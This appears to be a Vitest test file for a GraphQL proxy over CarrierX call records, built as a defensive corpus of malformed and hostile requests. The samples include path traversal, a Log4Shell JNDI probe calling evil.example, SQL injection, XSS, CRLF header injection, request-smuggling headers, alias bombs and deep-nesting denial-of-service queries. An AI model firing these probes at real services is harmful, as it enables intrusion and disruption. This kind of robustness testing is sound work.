import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import { request as undiciRequest } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_TOKEN, SAMPLE_DR_SID } from '../src/carrierx/simulator/index.ts';
import { createRequestHandler, type RequestHandler } from '../src/http/create-request-handler.ts';
import { createHarness, type Harness } from './helpers/harness.ts';

/**
 * A corpus of hostile and broken requests. Each one must get a 4xx, or a 200 carrying GraphQL errors; never a
 * 5xx, never a crash, and never a call to CarrierX. Every request carries a valid token and, where it names a
 * record at all, usually a real one, so anything that slipped through to a resolver would show as an upstream
 * call.
 */

const VALID = SAMPLE_DR_SID;
const ONE = 'query One($drSid: UUID!) { callDetailRecord(drSid: $drSid) { drSid price } }';
const ENTITIES =
  'query E($r: [_Any!]!) { _entities(representations: $r) { ... on CallDetailRecord { drSid } } }';
/** A stack trace's frame in a JSON body ("\\n    at f (file:1:2)") or a "stack" key. */
const STACK = /\\n\s+at |"stack"/;
const utf8 = (text: string) => new TextEncoder().encode(text);
const concat = (...parts: (string | number[])[]) =>
  new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...utf8(part)] : part)));

interface Case {
  name: string;
  method?: 'GET' | 'POST';
  /** Path and query; the default is /graphql. */
  path?: string;
  headers?: Record<string, string>;
  body?: string | Uint8Array;
  /** When set, the answer must carry this code as well. */
  code?: string;
}

const json = (name: string, value: unknown, extra: Partial<Case> = {}): Case => ({
  name,
  body: JSON.stringify(value),
  ...extra,
});
const query = (name: string, text: string, variables?: unknown, extra: Partial<Case> = {}): Case =>
  json(name, { query: text, variables }, extra);

const cases: Case[] = [];

// Malformed JSON bodies.
for (const [name, body] of [
  ['an empty body', ''],
  ['a blank body', '   \n\t'],
  ['a lone opening brace', '{'],
  ['a lone closing brace', '}'],
  ['a lone bracket', '['],
  ['a truncated object', '{"query":'],
  ['a truncated string', `{"query": "${ONE}`],
  ['single quotes', "{'query': '{ __typename }'}"],
  ['a trailing comma', '{"query": "{ __typename }",}'],
  ['unquoted keys', '{query: "{ __typename }"}'],
  ['a missing comma', '{"query": "{ __typename }" "variables": {}}'],
  ['JSON null', 'null'],
  ['JSON true', 'true'],
  ['JSON false', 'false'],
  ['a number', '0'],
  ['a negative number', '-1'],
  ['an overflowing number', '1e309'],
  ['a bare string', '"{ __typename }"'],
  ['an empty array (a batch, which is off)', '[]'],
  ['an array of numbers', '[1]'],
  ['an array of null', '[null]'],
  ['NaN', 'NaN'],
  ['Infinity', 'Infinity'],
  ['undefined', 'undefined'],
  ['trailing garbage', `{"query": ${JSON.stringify(ONE)}} trailing`],
  ['two concatenated objects', '{"query": "{ __typename }"}{"query": "{ __typename }"}'],
  ['a byte-order mark', `\uFEFF{"query": ${JSON.stringify(`{ callDetailRecord(drSid: "x") { drSid } }`)}}`],
  ['a comment', `/* hi */ {"query": ${JSON.stringify(ONE)}}`],
  ['a bad escape', '{"query": "\\x41"}'],
  ['a short unicode escape', '{"query": "\\u12"}'],
  ['a raw control character in a string', '{"query": "{ __typename \u0001 }"}'],
  ['100 000 nested arrays', '['.repeat(100_000)],
  ['50 000 nested objects', '{"a":'.repeat(50_000)],
  ['a deeply nested but valid JSON query value', `{"query": ${'['.repeat(5_000)}1${']'.repeat(5_000)}}`],
  ['a duplicate key whose last value is invalid', `{"query": ${JSON.stringify(ONE)}, "query": 5}`],
  ['XML', '<query>{ __typename }</query>'],
] as const) {
  cases.push({ name: `a malformed JSON body: ${name}`, body });
}

// Wrong types in the GraphQL-over-HTTP parameters.
for (const [name, value] of [
  ['query as a number', { query: 1 }],
  ['query as true', { query: true }],
  ['query as null', { query: null }],
  ['query as an array', { query: [ONE] }],
  ['query as an object', { query: { text: ONE } }],
  ['an empty query', { query: '' }],
  ['a blank query', { query: '   ' }],
  ['no query at all', { variables: { drSid: VALID } }],
  ['variables as a string of bad JSON', { query: ONE, variables: '{"drSid": ' }],
  ['variables as a string naming an invalid SID', { query: ONE, variables: '{"drSid": "nope"}' }],
  ['variables as a number', { query: ONE, variables: 1 }],
  ['variables as an array', { query: ONE, variables: [VALID] }],
  ['variables as true', { query: ONE, variables: true }],
  ['operationName as a number', { query: ONE, variables: { drSid: VALID }, operationName: 1 }],
  ['operationName as an object', { query: ONE, variables: { drSid: VALID }, operationName: {} }],
  [
    'operationName naming no operation',
    { query: ONE, variables: { drSid: VALID }, operationName: 'Missing' },
  ],
  ['extensions as a string', { query: ONE, variables: { drSid: VALID }, extensions: 'x' }],
  ['extensions as an array', { query: ONE, variables: { drSid: VALID }, extensions: [] }],
  [
    'a persisted-query hash and no query',
    { extensions: { persistedQuery: { version: 1, sha256Hash: 'ab' } } },
  ],
  ['an unknown parameter', { query: ONE, variables: { drSid: VALID }, foo: 1 }],
  [
    'a __proto__ parameter',
    JSON.parse(
      `{"query": ${JSON.stringify(ONE)}, "variables": {"drSid": "${VALID}"}, "__proto__": {"admin": true}}`,
    ),
  ],
  ['a constructor parameter', { query: ONE, variables: { drSid: VALID }, constructor: { prototype: {} } }],
] as const) {
  cases.push(json(`wrong parameter types: ${name}`, value));
}

// Content types other than JSON, with a body that would otherwise run.
const runnable = JSON.stringify({ query: ONE, variables: { drSid: VALID } });
for (const contentType of [
  'text/plain',
  'text/html',
  'application/xml',
  'application/octet-stream',
  'image/png',
  'application/javascript',
  'application/jsonp',
  'json',
  '*/*',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=xyz',
  'application/graphql',
  'application/graphql-response+json',
  'application/json-seq',
  'text/json',
]) {
  cases.push({
    name: `the content type ${contentType}`,
    headers: { 'content-type': contentType },
    body: runnable,
  });
}
cases.push({ name: 'no content type', headers: { 'content-type': '' }, body: runnable });
cases.push({
  name: 'a GET with a mutation',
  method: 'GET',
  path: `/graphql?query=${encodeURIComponent('mutation { x }')}`,
});
cases.push({
  name: 'a GET with an unparseable variables parameter',
  method: 'GET',
  path: `/graphql?query=${encodeURIComponent(ONE)}&variables=%7Bnope`,
});
cases.push({ name: 'a PUT', method: 'PUT' as 'POST', body: runnable });
cases.push({ name: 'a DELETE', method: 'DELETE' as 'POST' });

// Huge bodies (in-process requests carry no Content-Length, so these are counted as they stream).
for (const [name, size] of [
  ['300 KB of padding', 300 * 1024],
  ['1 MB of padding', 1024 * 1024],
  ['8 MB of padding', 8 * 1024 * 1024],
] as const) {
  cases.push({
    name: `a huge body: ${name}`,
    body: `{"query": ${JSON.stringify(ONE)}, "variables": {"drSid": "${VALID}"}${' '.repeat(size)}}`,
  });
}
cases.push(
  query('a huge body: a 300 KB comment in the query', `#${'x'.repeat(300 * 1024)}\n${ONE}`, { drSid: VALID }),
);
cases.push(query('a huge body: a 300 KB variable', ONE, { drSid: VALID, padding: 'x'.repeat(300 * 1024) }));
cases.push(
  json('a huge body: a 300 KB operation name', { query: ONE, operationName: 'x'.repeat(300 * 1024) }),
);
cases.push(
  query('a huge body: 20 000 SIDs in one variable', ONE, {
    drSid: Array.from({ length: 20_000 }, () => VALID),
  }),
);

// Invalid UTF-8.
const invalidBytes: [string, number[]][] = [
  ['0xFF', [0xff]],
  ['0xFE', [0xfe]],
  ['an overlong slash', [0xc0, 0xaf]],
  ['a UTF-16 surrogate', [0xed, 0xa0, 0x80]],
  ['a truncated 3-byte sequence', [0xe2, 0x82]],
  ['a lone continuation byte', [0x80]],
  ['a 5-byte sequence', [0xf8, 0x88, 0x80, 0x80, 0x80]],
];
for (const [name, bytes] of invalidBytes) {
  cases.push({
    name: `invalid UTF-8 (${name}) inside the drSid variable`,
    body: concat(
      `{"query": ${JSON.stringify(ONE)}, "variables": {"drSid": "${VALID.slice(0, -1)}`,
      bytes,
      '"}}',
    ),
  });
  cases.push({
    name: `invalid UTF-8 (${name}) inside the query text`,
    body: concat('{"query": "{ callDetailRecord(drSid: \\"', bytes, `${VALID}\\") { drSid } }"}`),
  });
}
cases.push({
  name: 'invalid UTF-8 in a parameter name',
  body: concat('{"q', [0xff], `uery": ${JSON.stringify(ONE)}}`),
});
cases.push({
  name: 'invalid UTF-8 between tokens',
  body: concat('{"query": "{ __typename ', [0xff], ' }"}'),
});

// Invalid variables for the UUID! argument.
for (const [name, value] of [
  ['a number', 123],
  ['a float', 1.5],
  ['true', true],
  ['false', false],
  ['null', null],
  ['an empty list', []],
  ['a list holding a valid SID', [VALID]],
  ['an object', { drSid: VALID }],
  ['an empty string', ''],
  ['not a UUID', 'not-a-uuid'],
  ['a UUID without dashes', VALID.replaceAll('-', '')],
  ['a UUID with a leading space', ` ${VALID}`],
  ['a UUID with a trailing newline', `${VALID}\n`],
  ['a UUID one digit short', VALID.slice(0, -1)],
  ['a UUID one digit long', `${VALID}0`],
  ['a UUID with a letter past f', `${VALID.slice(0, -1)}g`],
] as const) {
  cases.push(query(`an invalid drSid variable: ${name}`, ONE, { drSid: value }));
}
cases.push(query('a missing drSid variable', ONE, {}));
cases.push(query('no variables at all', ONE));
cases.push(query('only an undeclared variable', ONE, { other: VALID }));

// Wrong types in the document.
for (const [name, argument] of [
  ['an Int', '123'],
  ['a Float', '1.5'],
  ['a Boolean', 'true'],
  ['null', 'null'],
  ['a list', `["${VALID}"]`],
  ['an object', `{ drSid: "${VALID}" }`],
  ['an enum value', 'INBOUND'],
  ['an undeclared variable', '$nope'],
  ['a block string that is not a UUID', '"""not a uuid"""'],
] as const) {
  cases.push(query(`a drSid literal given as ${name}`, `{ callDetailRecord(drSid: ${argument}) { drSid } }`));
}
for (const [name, text] of [
  ['a String variable for a UUID argument', 'query($d: String!) { callDetailRecord(drSid: $d) { drSid } }'],
  [
    'a nullable variable for a non-null argument',
    'query($d: UUID) { callDetailRecord(drSid: $d) { drSid } }',
  ],
  ['a list variable for a single argument', 'query($d: [UUID!]!) { callDetailRecord(drSid: $d) { drSid } }'],
  ['an Int variable for a UUID argument', 'query($d: Int!) { callDetailRecord(drSid: $d) { drSid } }'],
  ['the argument given twice', `{ callDetailRecord(drSid: "${VALID}", drSid: "${VALID}") { drSid } }`],
  ['no argument', '{ callDetailRecord { drSid } }'],
] as const) {
  cases.push(query(`a document with ${name}`, text, { d: VALID }));
}

// Unknown and misplaced fields, arguments, directives and operations.
for (const [name, text] of [
  ['an unknown root field', '{ callDetailRecords { drSid } }'],
  ['an unknown record field', `{ callDetailRecord(drSid: "${VALID}") { drSid nope } }`],
  ['a misspelt record field', `{ callDetailRecord(drSid: "${VALID}") { pric } }`],
  ['an unknown argument', `{ callDetailRecord(drSid: "${VALID}", limit: 5) { drSid } }`],
  ['a selection on a scalar', `{ callDetailRecord(drSid: "${VALID}") { drSid { x } } }`],
  ['an object without a selection', `{ callDetailRecord(drSid: "${VALID}") }`],
  ['an unknown directive', `{ callDetailRecord(drSid: "${VALID}") @nope { drSid } }`],
  ['@skip without its argument', `{ callDetailRecord(drSid: "${VALID}") @skip { drSid } }`],
  [
    'a directive in the wrong place',
    `query @include(if: true) { callDetailRecord(drSid: "${VALID}") { drSid } }`,
  ],
  ['an inline fragment on an unknown type', `{ callDetailRecord(drSid: "${VALID}") { ... on Nope { x } } }`],
  [
    'a fragment on the wrong type',
    `{ callDetailRecord(drSid: "${VALID}") { ...Q } } fragment Q on Query { __typename }`,
  ],
  [
    'an unused fragment',
    `{ callDetailRecord(drSid: "${VALID}") { drSid } } fragment F on CallDetailRecord { drSid }`,
  ],
  ['an unused variable', `query($x: Int) { callDetailRecord(drSid: "${VALID}") { drSid } }`],
  ['an undefined fragment', `{ callDetailRecord(drSid: "${VALID}") { ...Missing } }`],
  [
    'two operations and no operationName',
    `query A { callDetailRecord(drSid: "${VALID}") { drSid } } query B { __typename }`,
  ],
  [
    'two operations with one name',
    `query A { callDetailRecord(drSid: "${VALID}") { drSid } } query A { __typename }`,
  ],
  [
    'an anonymous and a named operation',
    `{ callDetailRecord(drSid: "${VALID}") { drSid } } query B { __typename }`,
  ],
  ['a mutation', 'mutation { deleteCallDetailRecord(drSid: "x") }'],
  ['a subscription', 'subscription { callDetailRecord(drSid: "x") { drSid } }'],
  ['_entities without representations', '{ _entities { __typename } }'],
  ['a type definition', 'type Evil { x: Int }'],
  ['a schema extension', 'extend type Query { evil: Int }'],
  ['an unterminated string', `{ callDetailRecord(drSid: "${VALID}) { drSid } }`],
  ['an unbalanced brace', `{ callDetailRecord(drSid: "${VALID}") { drSid }`],
  ['a stray character', `{ callDetailRecord(drSid: "${VALID}") { drSid } } ?`],
] as const) {
  cases.push(query(`a document with ${name}`, text));
}

// Alias bombs.
const aliasesOf = (n: number, field: string) =>
  Array.from({ length: n }, (_, i) => `a${i}: ${field}`).join(' ');
const record = `callDetailRecord(drSid: "${VALID}") { drSid }`;
for (const n of [31, 50, 100, 300, 1_000, 10_000]) {
  cases.push(query(`an alias bomb of ${n} records`, `{ ${aliasesOf(n, record)} }`));
}
for (const n of [1_000, 5_000])
  cases.push(query(`an alias bomb of ${n} __typename`, `{ ${aliasesOf(n, '__typename')} }`));
cases.push(query('an alias bomb of 31 _service', `{ ${aliasesOf(31, '_service { sdl }')} }`));
cases.push(
  query(
    'an alias bomb split across fragment spreads',
    `{ ...A ...A ...A } fragment A on Query { ${aliasesOf(12, record)} }`,
  ),
);
cases.push(
  query('3 000 copies of one field', `{ callDetailRecord(drSid: "${VALID}") { ${'drSid '.repeat(3_000)}} }`),
);
cases.push(
  query(
    '51 directives on one field',
    `{ ${record.replace('{ drSid }', `${'@include(if: true) '.repeat(51)}{ drSid }`)} }`,
  ),
);

// Deep documents and fragment chains.
const ofTypeChain = (levels: number) => `${'ofType { '.repeat(levels)}name${' }'.repeat(levels)}`;
for (const levels of [9, 20, 100]) {
  cases.push(
    query(
      `introspection nested ${levels} levels deep`,
      `{ __type(name: "String") { ${ofTypeChain(levels)} } }`,
    ),
  );
}
for (const levels of [9, 30]) {
  const chain = Array.from(
    { length: levels },
    (_, i) => `fragment F${i} on __Type { ofType { ${i < levels - 1 ? `...F${i + 1}` : 'name'} } }`,
  );
  cases.push(
    query(`a chain of ${levels} nested fragments`, `{ __type(name: "String") { ...F0 } } ${chain.join(' ')}`),
  );
}
cases.push(
  query(
    'a chain of 1 000 fragments',
    `{ ...F0 } ${Array.from({ length: 1_000 }, (_, i) => `fragment F${i} on Query { ${i < 999 ? `...F${i + 1}` : '__typename'} }`).join(' ')}`,
  ),
);
cases.push(
  query(
    'inline fragments nested 600 deep',
    `{ ${'... on Query { '.repeat(600)}__typename${' }'.repeat(600)} }`,
  ),
);
cases.push(query('selections nested 5 000 deep', `${'{ a '.repeat(5_000)}${'}'.repeat(5_000)}`));
cases.push(query('50 000 opening braces', '{'.repeat(50_000)));
cases.push(
  query(
    'lists nested 5 000 deep in an argument',
    `{ callDetailRecord(drSid: ${'['.repeat(5_000)}${']'.repeat(5_000)}) { drSid } }`,
  ),
);

// Fragment cycles.
for (const [name, fragments] of [
  ['a fragment spreading itself', 'fragment A on Query { ...A }'],
  ['two fragments spreading each other', 'fragment A on Query { ...B } fragment B on Query { ...A }'],
  [
    'a three-fragment cycle',
    'fragment A on Query { ...B } fragment B on Query { ...C } fragment C on Query { ...A }',
  ],
  ['a cycle through an inline fragment', 'fragment A on Query { ... on Query { ...A } }'],
  [
    'a cycle beside a real field',
    `fragment A on Query { ${record} ...B } fragment B on Query { __typename ...A }`,
  ],
  [
    'a cycle with aliases',
    'fragment A on Query { x: __typename ...B } fragment B on Query { y: __typename ...A }',
  ],
  [
    'a 50-fragment ring',
    Array.from({ length: 50 }, (_, i) => `fragment R${i} on Query { ...R${(i + 1) % 50} }`)
      .join(' ')
      .replace('R0 on', 'A on')
      .replace('...R0 ', '...A '),
  ],
] as const) {
  cases.push(query(`a document with ${name}`, `{ ...A } ${fragments}`));
}
cases.push(
  query(
    'a cycle in a fragment the operation never uses',
    `{ ${record} } fragment X on Query { ...Y } fragment Y on Query { ...X }`,
  ),
);

// Huge lists of SIDs through the federation entry point.
const reps = (n: number, make: (i: number) => unknown) => Array.from({ length: n }, (_, i) => make(i));
for (const [name, representations] of [
  [
    '3 000 representations with an invalid drSid',
    reps(3_000, () => ({ __typename: 'CallDetailRecord', drSid: 'x' })),
  ],
  ['1 000 representations of an unknown type', reps(1_000, () => ({ __typename: 'Nope', drSid: VALID }))],
  ['1 000 representations without __typename', reps(1_000, () => ({ drSid: VALID }))],
  ['representations that are numbers', [1, 2, 3]],
  ['representations that are null', [null]],
  ['a representation without drSid', [{ __typename: 'CallDetailRecord' }]],
  ['a representation with a list drSid', [{ __typename: 'CallDetailRecord', drSid: [VALID] }]],
  ['a representation with an object drSid', [{ __typename: 'CallDetailRecord', drSid: { id: VALID } }]],
  ['representations as a single object', { __typename: 'CallDetailRecord', drSid: 'x' }],
] as const) {
  cases.push(query(`an _entities fetch of ${name}`, ENTITIES, { r: representations }));
}

// Path, query-string and protocol injection attempts in drSid, through each way a SID gets in.
const injections = [
  '../',
  '../../calls/call_drs',
  '..%2F..%2Fcalls',
  '%2e%2e%2f',
  `${VALID}/../x`,
  `${VALID}/`,
  `/${VALID}`,
  `${VALID}?include_fields=price`,
  `${VALID}#fragment`,
  `${VALID};x=1`,
  `${VALID}%00`,
  `${VALID}\u0000`,
  `${VALID}\r\nX-Injected: 1`,
  '..\\..\\windows\\win.ini',
  'http://evil.example/',
  '//evil.example/x',
  '%252e%252e%252f',
  VALID.replaceAll('-', '/'),
  `${VALID} `,
  `${VALID}\t`,
  VALID.replace(/[0-9]/g, (d) => String.fromCharCode(0xff10 + Number(d))),
  `${VALID.slice(0, -1)}%34`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a Log4Shell probe
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
];
for (const attempt of injections) {
  const shown = JSON.stringify(attempt);
  cases.push(query(`a path-injection drSid ${shown} as a variable`, ONE, { drSid: attempt }));
  cases.push(
    query(`a path-injection drSid ${shown} as a literal`, `{ callDetailRecord(drSid: ${shown}) { drSid } }`),
  );
  cases.push(
    query(`a path-injection drSid ${shown} in an entity representation`, ENTITIES, {
      r: [{ __typename: 'CallDetailRecord', drSid: attempt }],
    }),
  );
}

// Malformed Authorization headers: never forwarded, never a call.
for (const authorization of [
  'Bearer a b',
  'Bearer a,Bearer b',
  'Bearer a;b',
  'Bearer\tabc',
  'Bearer  abc',
  'Bearer',
  'Basic',
  'Token abc',
  'Digest username="admin"',
  'bearer=abc',
  'Bearer a"b',
  "Bearer a'b",
  'Bearer a\\b',
  'Bearer a%0d%0aX-Injected: 1',
  'Bearer a: b',
  'Bearer a==b',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a Log4Shell probe
  'Bearer ${jndi:ldap://evil.example/a}',
  'Bearer <script>',
  `Bearer ${'a'.repeat(5_000)}`,
  'Bearer \u00e9t\u00e9',
  'Bearer a, X-Injected: 1',
]) {
  cases.push(
    query(
      `the Authorization header ${JSON.stringify(authorization.slice(0, 60))}`,
      ONE,
      { drSid: VALID },
      {
        headers: { authorization },
        code: 'UNAUTHENTICATED',
      },
    ),
  );
}

function requestFor(c: Case): Request {
  const method = c.method ?? 'POST';
  const headers = new Headers({
    'content-type': 'application/json',
    accept: 'application/json',
    authorization: `Bearer ${DEMO_TOKEN}`,
    ...c.headers,
  });
  if (c.headers?.['content-type'] === '') headers.delete('content-type');
  return new Request(`http://localhost${c.path ?? '/graphql'}`, {
    method,
    headers,
    ...(method === 'GET' || c.body === undefined ? {} : { body: c.body as BodyInit }),
  });
}

// Production masks more and turns CSRF prevention on; neither may turn a bad request into a 5xx or a stack.
for (const mode of ['development', 'production'] as const) {
  describe(`in ${mode}`, () => {
    let h: Harness;
    beforeAll(async () => {
      h = await createHarness({ NODE_ENV: mode });
    });
    afterAll(() => h.close());

    describe('the bad-input corpus, in process', () => {
      it('holds at least 200 cases, each with its own name', () => {
        expect(cases.length).toBeGreaterThanOrEqual(200);
        expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
      });

      it.each(cases.map((c) => [c.name, c] as const))(
        'answers %s with a 4xx or a GraphQL error, without calling CarrierX',
        async (_name, c) => {
          const before = h.simulator.stats.requests;
          const res = await h.app.fetch(requestFor(c));
          const text = await res.text();
          expect(res.status).toBeLessThan(500);
          expect(text).not.toMatch(STACK);
          if (res.status < 400) {
            expect(res.status).toBe(200);
            const body = JSON.parse(text) as { errors?: { extensions?: { code?: string } }[] };
            expect(body.errors?.length).toBeGreaterThan(0);
            if (c.code) expect(body.errors?.map((e) => e.extensions?.code)).toContain(c.code);
          }
          expect(h.simulator.stats.requests).toBe(before);
        },
      );

      it('answers /health and a real query after the whole corpus, having made no upstream call for it', async () => {
        expect(h.simulator.stats.requests).toBe(0);
        expect((await h.app.fetch('http://localhost/health')).status).toBe(200);
        const res = await h.execute(ONE, { drSid: VALID });
        expect(res.body.data).toEqual({ callDetailRecord: { drSid: VALID, price: '0.0025' } });
      });

      it('reads a {braced} or upper-case UUID as the record itself, sending CarrierX the bare lower-case SID', async () => {
        h.simulator.resetLog();
        for (const spelling of [`{${VALID}}`, VALID.toUpperCase(), `{${VALID.toUpperCase()}}`]) {
          const res = await h.execute(ONE, { drSid: spelling });
          expect(res.body.data).toEqual({ callDetailRecord: { drSid: VALID, price: '0.0025' } });
        }
        expect(h.simulator.requests.map((r) => r.path)).toEqual(
          Array.from({ length: 3 }, () => `/core/v2/calls/call_drs/${VALID}`),
        );
      });
    });

    describe('over a real HTTP connection, through the request handler production uses', () => {
      let server: Server;
      let port: number;
      let handler: RequestHandler;
      beforeAll(async () => {
        // The fast path serves plain JSON POSTs itself; everything else goes to Yoga. Both must hold.
        handler = createRequestHandler(h.app, { fastPath: true, maxBodyBytes: 256 * 1024 });
        server = createServer(handler);
        await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
        port = (server.address() as { port: number }).port;
      });
      afterAll(async () => {
        server.closeAllConnections();
        await new Promise((resolve) => server.close(resolve));
      });

      /** Writes raw bytes and resolves what came back once the server closes (every request asks it to). */
      function rawExchange(bytes: string | Uint8Array): Promise<{ status: number; text: string }> {
        return new Promise((resolve, reject) => {
          const socket = connect(port, '127.0.0.1');
          let received = '';
          socket.on('data', (chunk) => {
            received += chunk.toString('latin1');
          });
          socket.on('close', () => {
            const match = /^HTTP\/1\.1 (\d{3})/.exec(received);
            resolve({ status: match ? Number(match[1]) : 0, text: received });
          });
          socket.on('error', reject);
          socket.write(bytes);
        });
      }

      const body = JSON.stringify({ query: ONE, variables: { drSid: VALID } });
      const head = (headers: string, length = Buffer.byteLength(body)) =>
        `POST /graphql HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n${headers}\r\n`;

      it.each<[string, string | Uint8Array]>([
        [
          'a bare CR inside Authorization',
          `${head(`Authorization: Bearer ${DEMO_TOKEN}\rX-Injected: 1\r\n`)}${body}`,
        ],
        ['a NUL inside Authorization', `${head(`Authorization: Bearer ${DEMO_TOKEN}\u0000x\r\n`)}${body}`],
        [
          'an obs-folded Authorization',
          `${head(`Authorization: Bearer ${DEMO_TOKEN}\r\n folded\r\n`)}${body}`,
        ],
        ['a header name with a space', `${head('Author ization: x\r\n')}${body}`],
        [
          'Content-Length and Transfer-Encoding together',
          `${head('Transfer-Encoding: chunked\r\n')}${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
        ],
        ['two different Content-Lengths', `${head(`Content-Length: ${body.length + 1}\r\n`)}${body}`],
        ['a negative Content-Length', `${head('', -5)}${body}`],
        ['a 20 KB header', `${head(`X-Big: ${'a'.repeat(20_000)}\r\n`)}${body}`],
        ['a request line of garbage', 'HELLO THERE\r\n\r\n'],
        [
          'an invalid chunk size',
          `POST /graphql HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n${body}\r\n0\r\n\r\n`,
        ],
        ['a declared body of 1 GB', `${head('', 1_000_000_000)}${body}`],
        [
          'a 300 KB chunked body',
          `POST /graphql HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${(300 * 1024).toString(16)}\r\n${' '.repeat(300 * 1024)}\r\n0\r\n\r\n`,
        ],
        [
          'invalid UTF-8 in a body with Content-Length',
          (() => {
            const bytes = concat(
              `{"query": ${JSON.stringify(ONE)}, "variables": {"drSid": "`,
              [0xff, 0xfe],
              '"}}',
            );
            return concat(head(`Authorization: Bearer ${DEMO_TOKEN}\r\n`, bytes.length), [...bytes]);
          })(),
        ],
      ])('answers %s with a 4xx or a GraphQL error (or hangs up), never a 5xx', async (_name, bytes) => {
        const before = h.simulator.stats.requests;
        const { status, text } = await rawExchange(bytes);
        expect(status).toBeLessThan(500);
        expect(text).not.toMatch(STACK);
        if (status === 200) expect(text).toContain('"errors"');
        else if (status !== 0) expect(status).toBeGreaterThanOrEqual(400);
        expect(h.simulator.stats.requests).toBe(before);
      });

      it.each(cases.filter((c) => c.method !== 'GET').map((c) => [c.name, c] as const))(
        'answers %s over HTTP with a 4xx or a GraphQL error, without calling CarrierX',
        async (_name, c) => {
          const before = h.simulator.stats.requests;
          const headers: Record<string, string> = {
            'content-type': 'application/json',
            accept: 'application/json',
            authorization: `Bearer ${DEMO_TOKEN}`,
            ...c.headers,
          };
          if (headers['content-type'] === '') delete headers['content-type'];
          const res = await undiciRequest(`http://127.0.0.1:${port}${c.path ?? '/graphql'}`, {
            method: c.method ?? 'POST',
            headers,
            body: c.body === undefined ? undefined : Buffer.from(c.body),
          });
          const text = await res.body.text();
          expect(res.statusCode).toBeLessThan(500);
          expect(text).not.toMatch(STACK);
          if (res.statusCode < 400) {
            expect(res.statusCode).toBe(200);
            const body = JSON.parse(text) as { errors?: { extensions?: { code?: string } }[] };
            expect(body.errors?.length).toBeGreaterThan(0);
            if (c.code) expect(body.errors?.map((e) => e.extensions?.code)).toContain(c.code);
          }
          expect(h.simulator.stats.requests).toBe(before);
        },
      );

      it('sent most of the corpus through the fast path and the rest through Yoga', () => {
        expect(handler.stats.fastPath).toBeGreaterThan(150);
        expect(handler.stats.yoga).toBeGreaterThan(20);
      });

      it('still answers /health over HTTP afterwards', async () => {
        const { status } = await rawExchange('GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
        expect(status).toBe(200);
      });
    });

    // Once is enough for the comparison (test/execution-parity.test.ts compares in both modes); each of the
    // four answers of the largest cases takes seconds.
    if (mode === 'development') {
      describe('the same corpus under graphql-jit and graphql-js, on the fast path and through Yoga', () => {
        let js: Harness;
        const servers: Server[] = [];
        const ports: number[] = [];
        beforeAll(async () => {
          js = await createHarness({ NODE_ENV: mode, GRAPHQL_JIT: 'false' });
          for (const app of [h.app, js.app]) {
            for (const fastPath of [true, false]) {
              const server = createServer(createRequestHandler(app, { fastPath, maxBodyBytes: 256 * 1024 }));
              servers.push(server);
              await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
              ports.push((server.address() as { port: number }).port);
            }
          }
        });
        afterAll(async () => {
          for (const server of servers) {
            server.closeAllConnections();
            server.close();
          }
          await js.close();
        });

        it.each(cases.filter((c) => c.method !== 'GET').map((c) => [c.name, c] as const))(
          'answers %s with the same bytes from all four',
          async (_name, c) => {
            const headers: Record<string, string> = {
              'content-type': 'application/json',
              accept: 'application/json',
              authorization: `Bearer ${DEMO_TOKEN}`,
              // One id for all four: error answers carry it, and a generated one would differ.
              'x-request-id': 'same-bytes',
              ...c.headers,
            };
            if (headers['content-type'] === '') delete headers['content-type'];
            const answers: { status: number; contentType: unknown; text: string }[] = [];
            for (const port of ports) {
              const res = await undiciRequest(`http://127.0.0.1:${port}${c.path ?? '/graphql'}`, {
                method: c.method ?? 'POST',
                headers,
                body: c.body === undefined ? undefined : Buffer.from(c.body),
              });
              answers.push({
                status: res.statusCode,
                contentType: res.headers['content-type'],
                text: await res.body.text(),
              });
            }
            for (const answer of answers.slice(1)) expect(answer).toEqual(answers[0]);
          },
          60_000,
        );
      });
    }
  });
}
